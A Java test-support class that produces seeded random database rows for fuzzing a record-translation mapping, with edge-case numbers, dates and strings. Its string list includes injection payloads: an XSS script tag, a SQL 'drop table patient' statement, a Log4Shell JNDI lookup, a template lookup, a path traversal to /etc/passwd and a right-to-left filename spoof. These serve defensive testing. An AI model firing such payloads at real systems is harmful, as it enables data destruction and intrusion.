package pontic.translate;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.DecimalNode;
import com.fasterxml.jackson.databind.node.IntNode;
import com.fasterxml.jackson.databind.node.LongNode;
import com.fasterxml.jackson.databind.node.NullNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.Collection;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.stream.Stream;
import pontic.mapping.Golden;

/**
 * Rows as a database could have them, whatever people and programs wrote into it: a golden row with
 * some columns null, absent (an older version), empty, extreme, in any script, or meant to do harm.
 * Each column keeps the type that it has in the golden rows. The same seed gives the same rows.
 */
final class AnyRows {
  /** Put together by statements out of keys, numbers and times: nobody writes them. */
  private static final Set<String> COMPUTED =
      Set.of(
          "Hours",
          "LastStop",
          "Operatories",
          "Measures",
          "ProvNums",
          "Procedures",
          "MergedFrom",
          "LineFees",
          "LineDates",
          "LinePaid",
          "LineDeductibles");

  private static final List<String> TEXTS =
      List.of(
          "",
          " ",
          "\t\r\n",
          "\u00a0",
          "\u200b",
          "\u0000",
          "a\u0001b\u000b\u001f\u007f",
          "\ufffe\uffff",
          "0",
          "null",
          "-1",
          "NaN",
          "<script>alert(1)</script>",
          "<div xmlns=\"http://www.w3.org/1999/xhtml\">&nbsp;</div>",
          "'; drop table patient; --",
          "${jndi:ldap://host.invalid/a}",
          "{{env:PATH}}",
          "|^~\\&\rPID|1||",
          "\\.br\\\\X0D\\",
          "../../etc/passwd",
          "\"\\\"\"",
          "Ça été — Łódź ẞ",
          "मधुमेह",
          "日本語の名前",
          "اسم المريض",
          "\u202egnp.exe",
          "e\u0301\u0302\u0303",
          "😀🦷👩‍⚕️",
          "  leading and trailing  ",
          "one\ntwo\r\nthree\rfour",
          ",,,",
          "1,2,3,,99,A,ZZ",
          "D0000",
          "UR",
          "MODBLV",
          "http://",
          "urn:oid:x",
          "x".repeat(5000),
          "\u00e9".repeat(300));

  private static final List<Long> WHOLE =
      List.of(
          -1L,
          11L,
          12L,
          15L,
          16L,
          32L,
          33L,
          99L,
          101L,
          119L,
          127L,
          255L,
          32767L,
          65535L,
          -128L,
          2147483647L,
          -2147483648L,
          9007199254740993L,
          9223372036854775807L);

  private static final List<String> DECIMALS =
      List.of(
          "0", "0.0", "-1", "-0.5", "0.001", "1.23456789", "99999999.99", "1E+9", "255", "1000");

  private static final List<String> DAYS =
      List.of(
          "0001-01-01",
          "0000-00-00",
          "1753-01-01",
          "1880-01-01",
          "1900-02-28",
          "1969-12-31",
          "2000-02-29",
          "2026-03-08",
          "2026-11-01",
          "2038-01-20",
          "9999-12-31");

  private static final List<String> CLOCKS =
      List.of("00:00:00", "00:00:01", "01:30:00", "02:30:00", "12:00:00", "23:59:59");

  private enum Type {
    WHOLE,
    DECIMAL,
    DAY,
    INSTANT,
    CLOCK,
    TEXT
  }

  private final Random random;
  private final List<Golden> golden;
  private final List<String> columns;
  private final String key;

  /**
   * @param golden the cases of one mapping
   * @param columns that the mapping is given
   * @param key the one that has the row's key, which no row lacks
   */
  AnyRows(long seed, List<Golden> golden, Collection<String> columns, String key) {
    this.random = new Random(seed);
    this.golden = List.copyOf(golden);
    this.columns = columns.stream().sorted().toList();
    this.key = key;
  }

  ObjectNode next() {
    ObjectNode row = any(golden).input().deepCopy();
    int odds = any(List.of(1, 2, 4, 12));
    for (String column : columns) {
      if (random.nextInt(odds) == 0 && !column.equals(key) && !COMPUTED.contains(column)) {
        if (random.nextInt(12) == 0) {
          row.remove(column);
        } else {
          row.set(column, value(column));
        }
      }
    }
    if (columns.contains(key)) {
      row.put(key, key(row.path(key).asLong(1)));
    }
    return row;
  }

  private long key(long usual) {
    return random.nextInt(3) > 0 ? usual : any(List.of(1L, 9007199254740993L, Long.MAX_VALUE));
  }

  private JsonNode value(String column) {
    List<JsonNode> seen =
        golden.stream()
            .map(each -> each.input().path(column))
            .filter(JsonNode::isValueNode)
            .distinct()
            .toList();
    int choice = random.nextInt(10);
    if (choice == 0 || seen.isEmpty()) {
      return NullNode.instance;
    }
    if (choice < 4) {
      return any(seen);
    }
    return switch (type(seen)) {
      case WHOLE -> choice < 8 ? IntNode.valueOf(random.nextInt(13)) : LongNode.valueOf(any(WHOLE));
      case DECIMAL -> DecimalNode.valueOf(new BigDecimal(any(DECIMALS)));
      case DAY -> TextNode.valueOf(any(DAYS));
      case INSTANT -> TextNode.valueOf(any(DAYS) + " " + any(CLOCKS));
      case CLOCK -> TextNode.valueOf(any(CLOCKS));
      case TEXT -> TextNode.valueOf(choice < 9 ? any(TEXTS) : scrambled());
    };
  }

  private static Type type(List<JsonNode> seen) {
    List<JsonNode> said =
        seen.stream().filter(value -> !value.isNull() && !value.asText().isBlank()).toList();
    if (said.isEmpty()) {
      return Type.TEXT;
    }
    if (said.stream().allMatch(JsonNode::isIntegralNumber)) {
      return Type.WHOLE;
    }
    if (said.stream().allMatch(JsonNode::isNumber)) {
      return Type.DECIMAL;
    }
    return Stream.of(Type.DAY, Type.INSTANT, Type.CLOCK)
        .filter(type -> said.stream().allMatch(value -> value.asText().matches(form(type))))
        .findFirst()
        .orElse(Type.TEXT);
  }

  private static String form(Type type) {
    return switch (type) {
      case DAY -> "\\d{4}-\\d\\d-\\d\\d";
      case INSTANT -> "\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d";
      default -> "\\d\\d:\\d\\d:\\d\\d";
    };
  }

  /** Any characters that a database can hold. */
  private String scrambled() {
    List<Integer> points = new ArrayList<>();
    for (int length = random.nextInt(40); length > 0; length--) {
      int point = random.nextInt(random.nextBoolean() ? 0x80 : 0x20000);
      points.add(point >= 0xd800 && point <= 0xdfff ? 'x' : point);
    }
    return points.stream()
        .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
        .toString();
  }

  private <T> T any(List<T> of) {
    return of.get(random.nextInt(of.size()));
  }
}
